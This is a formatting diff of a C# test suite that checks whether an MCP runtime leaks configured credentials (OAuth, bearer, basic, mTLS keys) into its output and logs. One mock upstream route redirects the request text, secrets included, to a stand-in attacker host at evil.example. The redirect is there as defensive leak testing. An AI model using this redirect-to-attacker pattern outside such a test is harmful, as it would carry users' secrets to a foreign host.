@@ -16,7 +16,25 @@ namespace McpRuntime.Stdio.Tests;
 public sealed class SecretSearchTests : IDisposable
 {
     private static readonly string[] Paths =
-        ["echo", "echo-json", "echo-html", "echo-utf16", "echo-cut", "status-401", "status-403", "status-429", "status-500", "status-503", "away", "loop", "reset", "half", "no-gzip", "slow", "good"];
+    [
+        "echo",
+        "echo-json",
+        "echo-html",
+        "echo-utf16",
+        "echo-cut",
+        "status-401",
+        "status-403",
+        "status-429",
+        "status-500",
+        "status-503",
+        "away",
+        "loop",
+        "reset",
+        "half",
+        "no-gzip",
+        "slow",
+        "good",
+    ];
 
     // Each needs its own credential; the first word is the connector's name.
     private static readonly (string Name, string Scheme, string[] Fields)[] Schemes =
@@ -27,11 +45,31 @@ public sealed class SecretSearchTests : IDisposable
         ("basic", "{ type: basic }", ["USERNAME", "PASSWORD"]),
         ("bearer", "{ type: bearer }", ["TOKEN"]),
         ("hawk", "{ type: http, scheme: Hawk }", ["VALUE"]),
-        ("client", "{ type: oauth2, flows: [client_credentials], token_url: 'TOKENS/good-token' }", ["CLIENT_ID", "CLIENT_SECRET"]),
-        ("form", "{ type: oauth2, flows: [client_credentials], client_auth: post, token_url: 'TOKENS/good-token' }", ["CLIENT_ID", "CLIENT_SECRET"]),
-        ("refresh", "{ type: oauth2, flows: [authorization_code], token_url: 'TOKENS/good-token' }", ["CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN"]),
-        ("refused", "{ type: oauth2, flows: [authorization_code], token_url: 'TOKENS/bad-token' }", ["CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN"]),
-        ("moved", "{ type: oauth2, flows: [client_credentials], token_url: 'TOKENS/away' }", ["CLIENT_ID", "CLIENT_SECRET"]),
+        (
+            "client",
+            "{ type: oauth2, flows: [client_credentials], token_url: 'TOKENS/good-token' }",
+            ["CLIENT_ID", "CLIENT_SECRET"]
+        ),
+        (
+            "form",
+            "{ type: oauth2, flows: [client_credentials], client_auth: post, token_url: 'TOKENS/good-token' }",
+            ["CLIENT_ID", "CLIENT_SECRET"]
+        ),
+        (
+            "refresh",
+            "{ type: oauth2, flows: [authorization_code], token_url: 'TOKENS/good-token' }",
+            ["CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN"]
+        ),
+        (
+            "refused",
+            "{ type: oauth2, flows: [authorization_code], token_url: 'TOKENS/bad-token' }",
+            ["CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN"]
+        ),
+        (
+            "moved",
+            "{ type: oauth2, flows: [client_credentials], token_url: 'TOKENS/away' }",
+            ["CLIENT_ID", "CLIENT_SECRET"]
+        ),
         ("openid", "{ type: open_id_connect, url: 'TOKENS/openid' }", ["CLIENT_ID", "CLIENT_SECRET", "REFRESH_TOKEN"]),
         ("mtls", "{ type: mutual_tls }", ["CERTIFICATE", "PRIVATE_KEY"]),
         ("mtlsbad", "{ type: mutual_tls }", ["PKCS12", "PASSPHRASE"]),
@@ -62,7 +100,10 @@ public sealed class SecretSearchTests : IDisposable
         await using var unavailable = RecordingUpstream.Start(AnswerAsync);
         var faulty = new Dictionary<string, RecordingUpstream>(StringComparer.Ordinal)
         {
-            ["reset"] = reset, ["half"] = half, ["slow"] = slow, ["status-503"] = unavailable,
+            ["reset"] = reset,
+            ["half"] = half,
+            ["slow"] = slow,
+            ["status-503"] = unavailable,
         };
         await using var collector = RecordingUpstream.Start(UpstreamAnswer.Empty(200));
         using var server = _issuer.Issue("CN=api", IPAddress.Loopback);
@@ -87,18 +128,38 @@ public sealed class SecretSearchTests : IDisposable
         Assert.NotEmpty(secure.Clients);
         // All but those whose token endpoint gives none, and those that need TLS.
         foreach (var path in Paths)
-            Assert.InRange(upstream.Requests.Concat(faulty.Values.SelectMany(other => other.Requests)).Count(request => request.Target.Split('?')[0] == $"/{path}"), Schemes.Length - 4, 100);
+            Assert.InRange(
+                upstream
+                    .Requests.Concat(faulty.Values.SelectMany(other => other.Requests))
+                    .Count(request => request.Target.Split('?')[0] == $"/{path}"),
+                Schemes.Length - 4,
+                100
+            );
         var text = _seen.ToString();
         foreach (var (variable, secret) in _secrets)
         {
             var core = secret.StartsWith("/+", StringComparison.Ordinal) ? Core(variable) : secret;
             var base64 = Convert.ToBase64String(Encoding.UTF8.GetBytes(secret)).TrimEnd('=');
-            if (!variable.Contains("MTLS", StringComparison.Ordinal) && !variable.Contains("BASIC", StringComparison.Ordinal) && !variable.Contains("MOVED__S__CLIENT_ID", StringComparison.Ordinal))
-                Assert.True(sent.Contains(core, StringComparison.Ordinal) || Decoded(sent).Contains(core, StringComparison.Ordinal), $"{variable} was never sent.");
+            if (
+                !variable.Contains("MTLS", StringComparison.Ordinal)
+                && !variable.Contains("BASIC", StringComparison.Ordinal)
+                && !variable.Contains("MOVED__S__CLIENT_ID", StringComparison.Ordinal)
+            )
+                Assert.True(
+                    sent.Contains(core, StringComparison.Ordinal)
+                        || Decoded(sent).Contains(core, StringComparison.Ordinal),
+                    $"{variable} was never sent."
+                );
             Assert.False(text.Contains(core, StringComparison.Ordinal), $"{variable} was found:\n{Around(text, core)}");
-            Assert.False(text.Contains(base64, StringComparison.Ordinal), $"{variable} was found in base64:\n{Around(text, base64)}");
+            Assert.False(
+                text.Contains(base64, StringComparison.Ordinal),
+                $"{variable} was found in base64:\n{Around(text, base64)}"
+            );
         }
-        Assert.False(text.Contains("fetchedtokencore", StringComparison.Ordinal), $"A fetched token was found:\n{Around(text, "fetchedtokencore")}");
+        Assert.False(
+            text.Contains("fetchedtokencore", StringComparison.Ordinal),
+            $"A fetched token was found:\n{Around(text, "fetchedtokencore")}"
+        );
         Assert.Contains("fetchedtokencore", sent, StringComparison.Ordinal);
     }
 
@@ -125,18 +186,27 @@ public sealed class SecretSearchTests : IDisposable
         return at < 0 ? "" : text[Math.Max(0, at - 200)..Math.Min(text.Length, at + 200)];
     }
 
-    private static async Task AnswerAsync(RecordedRequest request, UpstreamConnection connection, CancellationToken cancellationToken)
+    private static async Task AnswerAsync(
+        RecordedRequest request,
+        UpstreamConnection connection,
+        CancellationToken cancellationToken
+    )
     {
         var path = request.Target.Split('?')[0].TrimStart('/');
         var echo = $"{request.Text}\n{Uri.EscapeDataString(request.Text)}\n{Uri.UnescapeDataString(request.Text)}";
-        var json = System.Text.Json.JsonSerializer.Serialize(new { message = echo, query = Uri.UnescapeDataString(request.Target) });
+        var json = System.Text.Json.JsonSerializer.Serialize(
+            new { message = echo, query = Uri.UnescapeDataString(request.Target) }
+        );
         switch (path)
         {
             case "reset":
                 connection.Reset();
                 return;
             case "half":
-                await connection.SendAsync($"HTTP/1.1 200 OK\r\nContent-Length: 999999\r\n\r\n{request.Text}", cancellationToken);
+                await connection.SendAsync(
+                    $"HTTP/1.1 200 OK\r\nContent-Length: 999999\r\n\r\n{request.Text}",
+                    cancellationToken
+                );
                 connection.Close();
                 return;
             case "slow":
@@ -147,17 +217,33 @@ public sealed class SecretSearchTests : IDisposable
         {
             "echo" => UpstreamAnswer.Text(echo),
             "echo-json" => UpstreamAnswer.Json(json),
-            "echo-html" => UpstreamAnswer.Text($"<html><body><p>{WebUtility.HtmlEncode(echo)}</p></body></html>", 500, "text/html"),
-            "echo-utf16" => new UpstreamAnswer(200, Encoding.Unicode.GetBytes(echo), "Content-Type: text/plain; charset=utf-16"),
+            "echo-html" => UpstreamAnswer.Text(
+                $"<html><body><p>{WebUtility.HtmlEncode(echo)}</p></body></html>",
+                500,
+                "text/html"
+            ),
+            "echo-utf16" => new UpstreamAnswer(
+                200,
+                Encoding.Unicode.GetBytes(echo),
+                "Content-Type: text/plain; charset=utf-16"
+            ),
             "echo-cut" => UpstreamAnswer.Text(Filled(request)),
             "away" => UpstreamAnswer.Redirect($"https://evil.example/{Uri.EscapeDataString(request.Text)}"),
             "loop" => UpstreamAnswer.Redirect(request.Target),
             "no-gzip" => new UpstreamAnswer(200, Encoding.UTF8.GetBytes(echo), "Content-Encoding: gzip"),
             "good-token" => UpstreamAnswer.Json("""{"access_token":"fetchedtokencore","expires_in":3600}"""),
-            "bad-token" => UpstreamAnswer.Json(json.Replace("message", "error_description", StringComparison.Ordinal), 400),
-            "openid" => UpstreamAnswer.Json($$"""{"token_endpoint":"http://{{request.Header("Host")[0]}}/good-token"}"""),
+            "bad-token" => UpstreamAnswer.Json(
+                json.Replace("message", "error_description", StringComparison.Ordinal),
+                400
+            ),
+            "openid" => UpstreamAnswer.Json(
+                $$"""{"token_endpoint":"http://{{request.Header("Host")[0]}}/good-token"}"""
+            ),
             "good" => UpstreamAnswer.Json("{}"),
-            _ when path.StartsWith("status-", StringComparison.Ordinal) => UpstreamAnswer.Json(json, int.Parse(path[7..], CultureInfo.InvariantCulture)),
+            _ when path.StartsWith("status-", StringComparison.Ordinal) => UpstreamAnswer.Json(
+                json,
+                int.Parse(path[7..], CultureInfo.InvariantCulture)
+            ),
             _ => UpstreamAnswer.Text(echo, 404),
         };
         await connection.SendAsync(answer, cancellationToken);
@@ -172,13 +258,20 @@ public sealed class SecretSearchTests : IDisposable
     }
 
     private void Configure(
-        RecordingUpstream upstream, Dictionary<string, RecordingUpstream> faulty, RecordingUpstream secure, RecordingUpstream collector)
+        RecordingUpstream upstream,
+        Dictionary<string, RecordingUpstream> faulty,
+        RecordingUpstream secure,
+        RecordingUpstream collector
+    )
     {
         var environment = _runtime.Environment;
         environment["MCP_RUNTIME_ALLOWED_NETWORKS"] = "127.0.0.1/32";
         environment["MCP_RUNTIME_LOG_LEVEL"] = "trace";
         environment["MCP_RUNTIME_DEBUG"] = "true";
-        environment["MCP_RUNTIME_AUDIT_FILE"] = Path.Combine(Directory.CreateDirectory(_runtime.DataFolder).FullName, "audit.jsonl");
+        environment["MCP_RUNTIME_AUDIT_FILE"] = Path.Combine(
+            Directory.CreateDirectory(_runtime.DataFolder).FullName,
+            "audit.jsonl"
+        );
         environment["MCP_RUNTIME_CA_BUNDLE"] = Path.Combine(_runtime.DataFolder, "issuer.pem");
         File.WriteAllText(environment["MCP_RUNTIME_CA_BUNDLE"]!, _issuer.RootPem);
         environment["OTEL_EXPORTER_OTLP_ENDPOINT"] = collector.Url.ToString();
@@ -186,29 +279,44 @@ public sealed class SecretSearchTests : IDisposable
         foreach (var (name, scheme, fields) in Schemes)
         {
             var api = name.StartsWith("mtls", StringComparison.Ordinal) ? secure : upstream;
-            var tools = string.Concat(Paths.Select(path =>
-                $"\n  - {{ name: {name}_{path.Replace('-', '_')}, description: Tests {path}., endpoint: GET /{path}, arguments: {{ }}, input_schema: {{ type: object }}{Server(name, path, faulty)} }}"));
-            _runtime.AddConnector(name, $"""
+            var tools = string.Concat(
+                Paths.Select(path =>
+                    $"\n  - {{ name: {name}_{path.Replace('-', '_')}, description: Tests {path}., endpoint: GET /{path}, arguments: {{ }}, input_schema: {{ type: object }}{Server(name, path, faulty)} }}"
+                )
+            );
+            _runtime.AddConnector(
+                name,
+                $"""
                 connector:
                   manifest_version: 2
                   name: {name}
                   version: 1.0.0
                   base_url: {api.Url.ToString().TrimEnd('/')}
                   limits: {"{"} timeout_seconds: 5, max_attempts: 2, max_response_bytes: 65536 {"}"}
-                  security_schemes: {"{"} s: {scheme.Replace("TOKENS", upstream.Url.ToString().TrimEnd('/'), StringComparison.Ordinal)} {"}"}
+                  security_schemes: {"{"} s: {scheme.Replace(
+                    "TOKENS",
+                    upstream.Url.ToString().TrimEnd('/'),
+                    StringComparison.Ordinal
+                )} {"}"}
                   security: [ {"{"} s: [] {"}"} ]
                   tools:{tools}
-                """);
+                """
+            );
             var prefix = $"MCP_RUNTIME_CREDENTIAL__{name.ToUpperInvariant()}__S__";
-            environment[prefix + "ORIGINS"] = $"{api.Url} {upstream.Url} {string.Join(' ', faulty.Values.Select(other => other.Url))}";
+            environment[prefix + "ORIGINS"] =
+                $"{api.Url} {upstream.Url} {string.Join(' ', faulty.Values.Select(other => other.Url))}";
             foreach (var field in fields)
                 environment[prefix + field] = _secrets[prefix + field] = $"/+\"{Core(prefix + field)}'&é<=";
         }
         using var client = _issuer.Issue("CN=client");
         environment["MCP_RUNTIME_CREDENTIAL__MTLS__S__CERTIFICATE"] = client.ExportCertificatePem();
-        environment["MCP_RUNTIME_CREDENTIAL__MTLS__S__PRIVATE_KEY"] = client.GetECDsaPrivateKey()!.ExportPkcs8PrivateKeyPem();
+        environment["MCP_RUNTIME_CREDENTIAL__MTLS__S__PRIVATE_KEY"] = client
+            .GetECDsaPrivateKey()!
+            .ExportPkcs8PrivateKeyPem();
         _secrets.TryRemove("MCP_RUNTIME_CREDENTIAL__MTLS__S__CERTIFICATE", out _);
-        _secrets["MCP_RUNTIME_CREDENTIAL__MTLS__S__PRIVATE_KEY"] = environment["MCP_RUNTIME_CREDENTIAL__MTLS__S__PRIVATE_KEY"]!.Split('\n')[1];
+        _secrets["MCP_RUNTIME_CREDENTIAL__MTLS__S__PRIVATE_KEY"] = environment[
+            "MCP_RUNTIME_CREDENTIAL__MTLS__S__PRIVATE_KEY"
+        ]!.Split('\n')[1];
     }
 
     private static string Server(string name, string path, Dictionary<string, RecordingUpstream> faulty) =>
@@ -224,7 +332,9 @@ public sealed class SecretSearchTests : IDisposable
         foreach (var (name, _, _) in Schemes)
         {
             foreach (var path in Paths)
-                await session.SendAsync($$$"""{"jsonrpc":"2.0","id":{{{++calls}}},"method":"tools/call","params":{"name":"{{{name}}}_{{{path.Replace('-', '_')}}}","arguments":{} } }""");
+                await session.SendAsync(
+                    $$$"""{"jsonrpc":"2.0","id":{{{++calls}}},"method":"tools/call","params":{"name":"{{{name}}}_{{{path.Replace('-', '_')}}}","arguments":{} } }"""
+                );
         }
         for (var i = 0; i < calls; i++)
             _seen.Append(await session.ReceiveAsync());
